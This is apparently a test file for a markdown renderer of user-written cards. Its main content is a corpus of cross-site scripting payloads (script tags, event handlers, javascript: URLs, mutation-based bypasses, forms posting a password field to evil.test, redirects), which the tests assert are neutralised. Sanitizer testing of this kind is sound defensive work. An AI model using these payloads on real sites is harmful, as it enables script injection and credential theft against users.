/** Cards that others wrote: what they may show, and a corpus of what they may not do. */
import assert from 'node:assert/strict'
import { test } from 'node:test'
import { renderMarkdown } from './markdown.ts'

const around = {
  link: (path: string) => (path.startsWith('..') ? undefined : `lab/net/blob/main/${path}`),
  image: (path: string) => `lab/net/resolve/main/${path}`,
}
const render = (text: string) => renderMarkdown(text, around)
const html = (text: string): string => render(text).html.trim()

void test('tables, tasks, code, links and pictures of the repo', () => {
  assert.match(html('| a | b |\n|---|--:|\n| 1 | 2 |'), /<table>[\s\S]*<td align="right">2<\/td>/)
  assert.match(html('- [x] done'), /<input type="checkbox" disabled[^>]* checked/)
  assert.equal(
    html('```python\nx < 1\n```'),
    '<pre><code class="language-python">x &lt; 1\n</code></pre>',
  )
  assert.equal(html('[c](config.json)'), '<p><a href="lab/net/blob/main/config.json">c</a></p>')
  assert.equal(
    html('[h](https://example.org/)'),
    '<p><a href="https://example.org/" rel="noreferrer nofollow ugc" target="_blank">h</a></p>',
  )
  assert.equal(
    html('![p](p.png)'),
    '<p><img src="lab/net/resolve/main/p.png" alt="p" loading="lazy" /></p>',
  )
  assert.equal(html('[up](../../other)'), '<p><span>up</span></p>')
})

void test('headings have anchors of their own, and links within lead to them', () => {
  const { html: text, headings } = render('# A *b*\n\n## A b\n\n[to](#a-b)')
  assert.deepEqual(headings, [
    { id: 'card-a-b', text: 'A b', level: 1 },
    { id: 'card-a-b-1', text: 'A b', level: 2 },
  ])
  // The page has the first heading.
  assert.match(text, /<h2 id="card-a-b">A <em>b<\/em><\/h2>/)
  assert.match(text, /<a href="#card-a-b">to<\/a>/)
})

void test('pictures of other hosts are left out and counted', () => {
  const { html: text, blockedImages } = render(
    '![x](https://evil.test/x.png) ![y](//evil.test/y) <img src="data:image/png;base64,AA">',
  )
  assert.equal(blockedImages, 3)
  assert.doesNotMatch(text, /<img|evil|data:/)
})

/** From the cheat sheets of the trade, and from the bugs of renderers. */
const corpus = [
  '<script>alert(1)</script>',
  '<SCRIPT SRC=//evil.test/x.js></SCRIPT>',
  '<scr<script>ipt>alert(1)</scr</script>ipt>',
  '<img src=x onerror=alert(1)>',
  '<img src="x" onerror="alert(1)" / onload=alert(2)>',
  '<svg onload=alert(1)><animate onbegin=alert(1)></svg>',
  '<svg><script>alert(1)</script></svg>',
  '<svg><style><img src=x onerror=alert(1)></style></svg>',
  '<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=1 onerror=alert(1)&gt;">',
  '<math href="javascript:alert(1)">click</math>',
  '<noscript><p title="</noscript><img src=x onerror=alert(1)>">',
  '<iframe src="javascript:alert(1)"></iframe>',
  '<iframe srcdoc="<script>alert(1)</script>"></iframe>',
  '<object data="javascript:alert(1)"></object><embed src="javascript:alert(1)">',
  '<a href="javascript:alert(1)">x</a>',
  '<a href="JaVaScRiPt:alert(1)">x</a>',
  '<a href="java&#10;script:alert(1)">x</a>',
  '<a href="&#x6A;&#x61;&#x76;&#x61;&#x73;&#x63;&#x72;&#x69;&#x70;&#x74;:alert(1)">x</a>',
  '<a href=" \u0001javascript:alert(1)">x</a>',
  '[x](javascript:alert(1))',
  '[x](  javascript:alert(1))',
  '[x](vbscript:msgbox(1))',
  '[x](data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==)',
  '[x]: javascript:alert(1)\n\n[x]',
  '<javascript:alert(1)>',
  '![x](javascript:alert(1))',
  '![x"onerror="alert(1)](a.png)',
  '[a](x "b\\" onmouseover=\\"alert(1)")',
  '<form action="https://evil.test"><input name=password><button formaction="javascript:alert(1)">x</button></form>',
  '<input type="text" autofocus onfocus=alert(1)>',
  '<input type=image src=x onerror=alert(1)>',
  '<details open ontoggle=alert(1)>x</details>',
  '<body onload=alert(1)>',
  '<base href="https://evil.test/">',
  '<meta http-equiv="refresh" content="0;url=https://evil.test">',
  '<link rel=stylesheet href=https://evil.test/x.css>',
  '<style>*{background:url(https://evil.test)}</style>',
  '<p style="background:url(javascript:alert(1));position:fixed">x</p>',
  '<div id="main" class="fixed inset-0 z-40">over the page</div>',
  '<h2 id="app">x</h2><a name="body">x</a>',
  '<video src=x onerror=alert(1)></video><audio src=x onerror=alert(1)>',
  '<marquee onstart=alert(1)>x</marquee>',
  '<template><script>alert(1)</script></template>',
  '<xmp><p title="</xmp><img src=x onerror=alert(1)>">',
  '<textarea><img title="</textarea><img src=x onerror=alert(1)>"></textarea>',
  '<!--><img src=x onerror=alert(1)>-->',
  '<![CDATA[<img src=x onerror=alert(1)>]]>',
  '<?xml version="1.0"?><x onload=alert(1)>',
  '<a href="https://evil.test" target="_top" rel="opener">x</a>',
  '``<img src=x onerror=alert(1)>``',
  '```"><script>alert(1)</script>\nx\n```',
  '| <img src=x onerror=alert(1)> |\n|---|\n| <script>alert(1)</script> |',
  '# <img src=x onerror=alert(1)>',
  '[x](https://example.org/"onmouseover="alert(1))',
  '\u0000<script>alert(1)</script>',
]

const allowedTag =
  /^<\/?(?:h[2-6]|p|br|hr|blockquote|pre|code|em|strong|b|i|u|s|del|ins|sub|sup|small|kbd|samp|var|mark|abbr|q|cite|dl|dt|dd|ul|ol|li|table|caption|colgroup|col|thead|tbody|tfoot|tr|th|td|a|img|details|summary|div|span|figure|figcaption|input)(?:\s|\/?>)/

void test('nothing of the corpus can act', () => {
  for (const text of corpus) {
    const found = html(text)
    // In what is left, text holds no angle bracket: each is a tag, and every tag is one that may be.
    for (const [tag] of found.matchAll(/<[^>]*>?/g)) {
      assert.match(tag, allowedTag, `${text} gave ${found}`)
      // What stands inside quotes is a value; names of attributes stand outside.
      const names = tag.replaceAll(/"[^"]*"/g, '""')
      assert.doesNotMatch(names, /on\w+\s*=|style|srcdoc|formaction/i, `${text} gave ${found}`)
      assert.doesNotMatch(tag, /(?:href|src)="\s*(?:javascript|vbscript|data)/i, text)
      assert.doesNotMatch(tag, /\s(?:id|name)="(?!card-)/, `${text} gave ${found}`)
      assert.doesNotMatch(
        tag,
        /class="(?!language-[\w+#.-]+"|blocked-image")/,
        `${text} gave ${found}`,
      )
      assert.doesNotMatch(tag, /src="(?!lab\/net\/)/, `${text} gave ${found}`)
    }
  }
})

void test('texts that hold parsers up come to an end, and do not grow', () => {
  const size = 100_000
  const hostile = [
    '[',
    '![',
    '>',
    '*',
    '_a',
    '`',
    '<',
    '<a ',
    '(',
    '| ',
    '- ',
    '\\',
    '&',
    'a*_',
    '~~',
    '[a](',
    '***a',
    '<!--',
    '\n> ',
    '  \n',
  ]
  for (const piece of hostile) {
    const { html: shown } = render(piece.repeat(size / piece.length))
    assert.ok(shown.length <= 10 * size, JSON.stringify(piece))
  }
})
